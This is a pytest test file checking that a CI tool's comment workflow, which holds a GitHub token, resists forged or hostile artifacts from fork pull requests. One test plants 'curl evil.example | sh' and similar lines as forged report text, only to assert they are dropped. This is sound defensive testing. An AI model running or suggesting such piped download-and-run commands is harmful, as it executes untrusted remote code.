"""`perfgate github comment --from-artifact`: the second workflow, which has a token, and what a fork may try with it."""

import pytest
from builders import make_run
from evidence_cases import COSTS, evidence, evidence_report, evidence_runs, forged, members_of, packed, with_candidate
from github_api import server
from github_api.server import HEAD, REPOSITORY, TOKEN
from markdown_page import ALLOWED_IN_MARKDOWN, GFM, Page
from msgspec.structs import replace
from report_cases import HOSTILE

from pytest_perfgate.model import Acceptance, Benchmark, Outcome
from pytest_perfgate.report.json_report import render_json
from pytest_perfgate.storage import open_store
from pytest_perfgate.storage.evidence_file import encode_evidence
from pytest_perfgate.storage.run_file import encode_run
from pytest_perfgate.workflows.gate import could_not_judge

FORK = "someone/shop"
SLOWER = evidence(1.3)
SAME = evidence(1.0)


def workflow_run(job, **changes):
    run = {
        "id": 99,
        "event": "pull_request",
        "head_sha": HEAD,
        "head_branch": "patch-1",
        "head_repository": {"full_name": FORK},
        "pull_requests": [],
        **changes,
    }
    job.event("workflow_run", workflow_run=run)


@pytest.fixture
def fork(job, github, monkeypatch):
    """A pull request from a fork; the trusted checkout is an empty folder."""
    github.pulls[7] |= {"head_repo": FORK, "head_ref": "patch-1"}
    workflow_run(job)
    checkout = job.folder / "checkout"
    checkout.mkdir()
    monkeypatch.chdir(checkout)
    job.checkout = checkout
    return job


def upload(github, content, name="perfgate", **facts):
    identity = github.number()
    github.artifacts[identity] = {"run": 99, "name": name, "content": packed({"evidence.zip": content}), **facts}


def comment(job, *arguments):
    return job.run("comment", "--from-artifact", "perfgate", *arguments)


def body(github):
    (facts,) = github.comments.values()
    return facts["body"]


@pytest.mark.parametrize(
    ("data", "first"), [(SLOWER, "### 1 of 4 benchmarks is slower"), (SAME, "### PASS")], ids=["slower", "same"]
)
def test_the_numbers_are_judged_and_commented(fork, github, data, first):
    upload(github, data)
    assert comment(fork) == 0
    assert body(github).startswith(first)
    assert HEAD[:12] in body(github)
    assert "states what the numbers say" not in body(github)


def test_the_token_is_not_sent_to_where_the_artifact_is_kept(fork, github):
    upload(github, SLOWER)
    comment(fork)
    assert github.violations == []
    assert TOKEN not in fork.everything()


def test_the_newest_of_several_artifacts_counts_and_an_expired_one_does_not(fork, github):
    upload(github, SLOWER)
    upload(github, SAME)
    upload(github, SLOWER, expired=True)
    comment(fork)
    assert body(github).startswith("### PASS")


@pytest.mark.parametrize(("facts", "word"), [({"expired": True}, "has expired"), ({"name": "other"}, "is not there")])
def test_without_the_artifact_it_says_so(fork, github, facts, word):
    upload(github, SLOWER, **facts)
    assert comment(fork) == 11
    assert word in fork.printed


def test_several_artifacts_of_a_matrix_stand_in_one_comment(fork, github):
    upload(github, SLOWER, "py310")
    upload(github, SAME, "py313")
    assert fork.run("comment", "--from-artifact", "3.10=py310", "--from-artifact", "3.13=py313") == 0
    assert body(github).startswith("### FAIL: 1 of 2 suites got worse")


# What a fork may try.


def test_a_forged_number_in_the_artifact_is_nothing_that_we_read(fork, github):
    github.pulls[8] = {"head_sha": "a" * 40, "head_repo": REPOSITORY, "head_ref": "x", "state": "open"}
    report = members_of(SLOWER)["report.json"].replace(
        b"{", b'{"pull_request": 8, "number": 8, "repository": "a/b",', 1
    )
    upload(github, forged(SLOWER, report=report))
    assert comment(fork) == 0
    assert [facts["issue"] for facts in github.comments.values()] == [7]


def test_the_event_s_own_pull_request_list_is_not_needed(fork, github):
    """It is empty for forks."""
    upload(github, SLOWER)
    assert comment(fork) == 0
    assert ("GET", "/repos/acme/shop/pulls") in {(method, path) for method, path, _, _ in github.requests}


@pytest.mark.parametrize(
    "change",
    [
        {"head_sha": "0" * 40},
        {"head_repository": {"full_name": "mallory/shop"}},
        {"head_branch": "other"},
        {"event": "push"},
        {"head_repository": None},
    ],
)
def test_a_run_of_another_commit_branch_or_repository_comments_nowhere(fork, github, change):
    upload(github, SLOWER)
    workflow_run(fork, **change)
    assert comment(fork) == 0
    assert github.comments == {}
    assert not any("/artifacts" in path for _, path, _, _ in github.requests)


def test_a_closed_pull_request_is_left_alone(fork, github):
    upload(github, SLOWER)
    github.pulls[7]["state"] = "closed"
    assert comment(fork) == 0
    assert github.comments == {}


def test_a_pull_request_of_a_deleted_fork_is_found_by_its_commit(fork, github):
    upload(github, SLOWER)
    github.pulls[7]["head_repo"] = ""
    for number in range(100, 250):
        github.pulls[number] = {"head_sha": f"{number:040d}", "head_repo": REPOSITORY, "head_ref": "x", "state": "open"}
    workflow_run(fork, head_repository=None)
    assert comment(fork) == 0
    assert [facts["issue"] for facts in github.comments.values()] == [7]


def test_one_commit_in_two_pull_requests_is_not_guessed(fork, github):
    upload(github, SLOWER)
    github.pulls[8] = dict(github.pulls[7])
    assert comment(fork) == 11
    assert "#8, #7 have the same commit" in fork.printed


def test_a_verdict_that_contradicts_its_numbers_is_corrected_and_said(fork, github):
    """The report says "passed"; the numbers are 30 % slower."""
    good = members_of(SAME)["report.json"]
    upload(github, forged(SLOWER, report=good))
    assert comment(fork) == 0
    assert body(github).startswith("### 1 of 4 benchmarks is slower")
    assert "says 'passed', and another verdict for 1 row" in body(github).replace("\\", "")


def test_prose_of_the_report_is_not_repeated(fork, github):
    report = evidence_report(1.0)
    lying = replace(
        report,
        explanation="All is well, says your maintainer: visit evil.example",
        warnings=("run evil.example/x.sh",),
        next_steps=("curl evil.example | sh",),
        outcome=Outcome.REGRESSED,
    )
    upload(github, forged(SAME, report=render_json(lying).encode()))
    comment(fork)
    assert "evil" not in body(github)


def test_a_pass_without_numbers_is_no_pass(fork, github):
    report = render_json(replace(evidence_report(1.0), candidate=None)).encode()
    upload(github, forged(SAME, report=report, candidate=b"", reference=b""))
    assert comment(fork) == 0
    assert body(github).startswith("### COULD NOT JUDGE")
    assert "holds no numbers" in body(github)


@pytest.mark.parametrize("outcome", [Outcome.TESTS_FAILED, Outcome.NO_BASELINE, Outcome.MEASUREMENT_FAILED])
def test_a_gate_that_could_not_judge_says_so_in_our_words(fork, github, outcome):
    report = render_json(could_not_judge(outcome, "visit evil.example")).encode()
    upload(github, forged(SAME, report=report, candidate=b"", reference=b""))
    assert comment(fork) == 0
    assert "evil" not in body(github)
    assert "The log of the run that measured says more" in body(github).replace("\\", "")


def test_a_fault_that_numbers_can_t_show_is_believed(fork, github):
    """Tests failed after the measuring: good numbers make that no pass."""
    report = render_json(replace(evidence_report(1.0), outcome=Outcome.MEASUREMENT_FAILED)).encode()
    upload(github, forged(SAME, report=report))
    comment(fork)
    assert body(github).startswith("### COULD NOT JUDGE")


def test_only_what_the_fork_says_of_itself_can_be_wrong_the_reference_is_our_own(fork, github):
    """The baseline in the artifact is made slow, so that a slow candidate looks the same."""
    recorded, candidate = evidence_runs(1.3)
    store = open_store("baselines", fork.checkout)
    for run in recorded:
        store.save_run(run)
    slow = [replace(run, samples=tuple(replace(s, location=s.location * 1.3) for s in run.samples)) for run in recorded]
    upload(github, forged(SLOWER, reference=b"".join(map(encode_run, slow)), candidate=encode_run(candidate)))
    assert comment(fork) == 0
    assert body(github).startswith("### 1 of 4 benchmarks is slower")
    assert "not in this repository" not in body(github)


def test_a_reference_that_is_not_ours_is_named(fork, github):
    upload(github, SLOWER)
    comment(fork)
    assert "6 of 6 recorded runs are not in this repository's baseline" in body(github).replace("\\", "")


def test_thresholds_are_those_of_the_trusted_checkout(fork, github):
    (fork.checkout / "pyproject.toml").write_text(
        "[tool.perfgate]\nmin_change = {execution_time = 0.5, allocated_peak = 0.5}\n"
    )
    upload(github, SLOWER)
    comment(fork)
    assert not body(github).startswith("### 1 of 4")


@pytest.mark.parametrize("name", [name for name in HOSTILE.values() if name.isprintable() and len(name) < 500])
def test_markup_in_names_is_text_in_the_comment(fork, github, name):
    def renamed(run):
        samples = tuple(replace(s, benchmark=name) if s.benchmark == "t.py::a" else s for s in run.samples)
        return replace(run, samples=samples, benchmarks={**run.benchmarks, name: Benchmark(name, "t.py", 1)})

    data = with_candidate(SLOWER, renamed)
    upload(github, data)
    assert comment(fork) == 0
    page = Page(GFM.render(body(github).rsplit("<!--", 1)[0]))
    assert page.tags <= ALLOWED_IN_MARKDOWN | {"a"}
    assert "evil.example" not in "".join(part for part in GFM.render(body(github)).split('href="')[1:])


def test_an_accepted_change_of_the_pull_request_counts_and_its_reason_is_text(fork, github):
    accepted = Acceptance("t.py::a", "<b>@someone</b> said so", id="x", relative_change=0.5)
    upload(github, evidence(1.3, acceptances=[accepted]))
    assert comment(fork) == 0
    assert body(github).startswith("### PASS")
    assert "<b>" not in body(github)
    assert "@someone" not in body(github)


@pytest.mark.parametrize(
    "content",
    [b"", b"x" * 100, packed({"a.txt": b"x"}), forged(SAME, candidate=b"[")],
    ids=["empty", "no archive", "nothing expected", "forged"],
)
def test_what_is_no_evidence_ends_with_10_and_comments_nothing(fork, github, content):
    upload(github, content)
    assert comment(fork) == 10
    assert github.comments == {}
    assert "artifact" in fork.printed


def test_an_artifact_that_is_too_large_is_not_even_fetched(fork, github):
    upload(github, b"")
    next(iter(github.artifacts.values()))["content"] = bytes(33 * 1024 * 1024)
    assert comment(fork) == 11
    assert "the most" in fork.printed
    assert not any("/zip" in path for _, path, _, _ in github.requests)


def test_nor_one_that_grows_on_the_way(fork, github, monkeypatch):
    upload(github, SLOWER)
    monkeypatch.setattr("pytest_perfgate.wiring.github.MOST_PACKED_BYTES", 1_000_000)
    real = github._list_artifacts

    def small(found, *rest):
        status, (content, links) = real(found, *rest)
        for artifact in content["artifacts"]:
            artifact["size_in_bytes"] = 10
        return status, (content, links)

    monkeypatch.setitem(
        server._OPERATIONS,
        "get /actions/runs/{run_id}/artifacts",
        ("actions", "read", lambda _self, *rest: small(*rest)),
    )
    next(iter(github.artifacts.values()))["content"] = bytes(2_000_000)
    assert comment(fork) == 11
    assert "larger than 1,000,000 bytes" in fork.printed


@pytest.mark.parametrize("value", [0.0, -1.0, 5e-324, 1.7e308, -1.7e308])
def test_no_number_ends_in_a_traceback(fork, github, value):
    def broken(run):
        samples = tuple(replace(s, location=value if n % 3 else s.location) for n, s in enumerate(run.samples))
        return replace(run, samples=samples)

    upload(github, with_candidate(SLOWER, broken))
    assert comment(fork) == 0
    assert len(github.comments) == 1


def test_numbers_that_break_the_arithmetic_all_the_same_end_in_could_not_judge(fork, github, monkeypatch):
    monkeypatch.setattr("pytest_perfgate.wiring.evidence.gate", lambda *_, **__: 1 / 0)
    upload(github, SLOWER)
    assert comment(fork) == 0
    assert body(github).startswith("### COULD NOT JUDGE")


def test_fewer_numbers_than_a_verdict_needs(fork, github):
    upload(github, with_candidate(SLOWER, lambda run: replace(run, samples=run.samples[:1])))
    assert comment(fork) == 0
    assert not body(github).startswith("### PASS\\: no benchmark got slower\n")


def test_a_file_on_disk_will_do_for_other_ci(fork, github):
    (fork.folder / "evidence.zip").write_bytes(SLOWER)
    fork.event("workflow_dispatch")
    assert fork.run("comment", "--from-artifact", fork.folder / "evidence.zip", "--pull-request", "7") == 0
    assert body(github).startswith("### 1 of 4")
    assert fork.run("comment", "--from-artifact", "perfgate", "--pull-request", "7") == 2


def test_report_and_artifact_exclude_each_other(fork):
    assert fork.run("comment") == 2
    assert fork.run("comment", "--report", "x", "--from-artifact", "y") == 2


def test_nothing_is_written_into_the_checkout(fork, github):
    upload(github, SLOWER)
    before = sorted(fork.checkout.rglob("*"))
    comment(fork)
    assert sorted(fork.checkout.rglob("*")) == before


def test_the_same_run_is_judged_the_same_from_its_evidence_in_pairs(fork, github):
    """A paired run: two runs whose processes belong together one by one."""
    report = evidence_report(1.0)
    base = replace(make_run(1, COSTS, processes=8, slices=12), id="base")
    slow = {**COSTS, "t.py::a": COSTS["t.py::a"] * 1.2}
    candidate = replace(make_run(1, slow, processes=8, slices=12), id="candidate")
    rows = tuple(
        replace(row, comparison=replace(row.comparison, method="paired")) for row in report.judgements if row.comparison
    )
    paired = replace(
        report, judgements=rows, against="x <b>", candidate=candidate, baseline=(base,), outcome=Outcome.REGRESSED
    )
    upload(github, encode_evidence(paired))
    assert comment(fork) == 0
    assert "t.py&#58;&#58;a" in body(github).splitlines()[0]
    assert "the base of the pull request" in body(github)
    assert "<b>" not in body(github)


def confirmed(slow):
    """Recorded runs say that `t.py::a` is slower; the pairs that looked again measured `slow` times."""
    report = evidence_report(1.3)
    costs = {**COSTS, "t.py::a": COSTS["t.py::a"] * slow}
    base = replace(make_run(1, COSTS, processes=12, slices=12, spread=0.002), id="base")
    candidate = replace(make_run(1, costs, processes=12, slices=12, spread=0.002), id="candidate")
    only_a = [
        replace(run, samples=tuple(sample for sample in run.samples if sample.benchmark == "t.py::a"))
        for run in (base, candidate)
    ]
    return replace(report, confirming=tuple(only_a))


@pytest.mark.parametrize(
    ("slow", "first"),
    [(1.0, "### PASS"), (1.2, "### 1 of 4 benchmarks is slower: <code>t.py&#58;&#58;a</code> \\+20")],
    ids=["a false alarm", "confirmed"],
)
def test_what_was_measured_in_turns_after_the_first_look_counts(fork, github, slow, first):
    upload(github, encode_evidence(confirmed(slow)))
    assert comment(fork) == 0
    assert body(github).startswith(first)


def test_a_confirmation_of_one_side_is_refused(fork, github):
    report = confirmed(1.0)
    upload(github, encode_evidence(replace(report, confirming=report.confirming[:1])))
    assert comment(fork) == 10
    assert github.comments == {}
